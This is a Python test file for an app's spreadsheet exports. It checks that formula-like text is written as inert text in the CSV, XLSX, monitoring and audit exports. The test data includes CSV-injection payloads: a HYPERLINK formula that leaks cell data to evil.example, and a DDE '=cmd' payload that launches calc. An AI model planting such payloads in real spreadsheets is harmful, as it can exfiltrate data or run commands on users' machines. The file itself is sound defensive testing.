"""Formula-safe exports: text that a spreadsheet would run arrives as text in every CSV and XLSX Arsip writes."""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from models.db import session_scope
from models.spreadsheet import FORMULA_STARTS, Sheet, csv_text, xlsx_bytes
from models.users import add_user
from tests.follow_support import add_document, follow_redis, follow_settings  # noqa: F401 - fixtures

pytestmark = pytest.mark.xdist_group("follow-redis6")
DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+62 811 0000", "-2+3", "@SUM(1,2)",
             "\t=1+1", "\r=1+1"]


def _as_read(text: str) -> str:
    return text.replace("\r", "\n")  # XML reads a carriage return as a line feed


def _sheet_xml(data: bytes, number: int = 1) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read(f"xl/worksheets/sheet{number}.xml").decode()


def test_every_dangerous_start_is_covered():
    assert {text[0] for text in DANGEROUS} == set(FORMULA_STARTS)


@pytest.mark.parametrize("text", DANGEROUS)
def test_xlsx_writes_formula_like_text_as_a_text_cell(text):
    data = xlsx_bytes([Sheet("Uji", ["judul", "angka", "tanggal"], [[text, -5, date(2024, 1, 31)]])])
    cell, number, day = load_workbook(io.BytesIO(data))["Uji"][2]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (_as_read(text), "s", True)
    assert "<f>" not in _sheet_xml(data)
    assert (number.value, number.data_type) == (-5, "n")  # a real negative number stays a number
    assert day.is_date and day.value.date() == date(2024, 1, 31)


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_prefixes_formula_like_text_and_keeps_numbers(text):
    out = csv_text(["judul", "angka", "pecahan", "tanggal"], [[text, -5, 2.5, date(2024, 1, 31)]])
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row == {"judul": "'" + text, "angka": "-5", "pecahan": "2.5", "tanggal": "2024-01-31"}


def test_plain_text_is_left_alone_and_control_characters_never_break_a_workbook():
    data = xlsx_bytes([Sheet("Uji", ["a"], [["Kota Bogor"], ["OCR\x0bsisa\x01"], [datetime(2024, 5, 1, 8, 30)]])])
    rows = [c.value for (c,) in load_workbook(io.BytesIO(data))["Uji"].iter_rows(min_row=2)]
    assert rows == ["Kota Bogor", "OCR sisa ", datetime(2024, 5, 1, 8, 30)]
    assert csv_text(["a"], [["Kota Bogor"], [None]], delimiter=";", bom=True) == '\ufeffa\r\nKota Bogor\r\n""\r\n'


@pytest.fixture
def monev(follow_settings, follow_redis):  # noqa: F811
    from search_app import create_app

    with session_scope(follow_settings) as session:
        for n, title in enumerate(DANGEROUS):
            add_document(session, {"doc_type": "KB", "title": title, "numbers": [f"{n}/KB/2024"],
                                   "sign_date": "2024-03-01", "end_date": "2029-02-28",
                                   "parties": [{"institution": "Pemerintah Kota Bogor"}, {"institution": title}]},
                         f"kb-{n}.pdf")
        add_user(session, "pemirsa", "viewer", password="rahasia-panjang-1")
        add_user(session, "kepala", "admin", password="rahasia-panjang-1")
    return create_app(follow_settings, {"TESTING": True, "WTF_CSRF_ENABLED": False})


def _client(app, name: str):
    client = app.test_client()
    assert client.post("/login", data={"username": name, "password": "rahasia-panjang-1"}).status_code == 302
    return client


def test_monev_exports_that_viewers_download_hold_titles_as_text(monev):
    viewer = _client(monev, "pemirsa")
    text = viewer.get("/monev/ekspor.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert sorted(row["title"] for row in rows) == sorted("'" + t for t in DANGEROUS)
    assert {row["sign_date"] for row in rows} == {"2024-03-01"}

    data = viewer.get("/monev/ekspor.xlsx").data
    sheet = load_workbook(io.BytesIO(data))["Dokumen"]
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("title")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(map(_as_read, DANGEROUS))
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    dates = [row[header.index("sign_date")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.is_date and c.value.date() == date(2024, 3, 1) for c in dates)  # real dates now
    assert not any("<f>" in _sheet_xml(data, n) for n in (1, 2, 3))


def test_the_audit_csv_goes_through_the_same_writer(monev, follow_settings):  # noqa: F811
    from models import audit

    with session_scope(follow_settings) as session:
        audit.record(session, "=cmd|' /C calc'!A0", title=DANGEROUS[0])
    admin = _client(monev, "kepala")
    text = admin.get("/audit.csv").get_data(as_text=True)
    actions = [row["tindakan"] for row in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))]
    assert "'=cmd|' /C calc'!A0" in actions
    assert not re.search(r'^"?=|,"?=', text, re.MULTILINE)  # no cell anywhere starts with "="
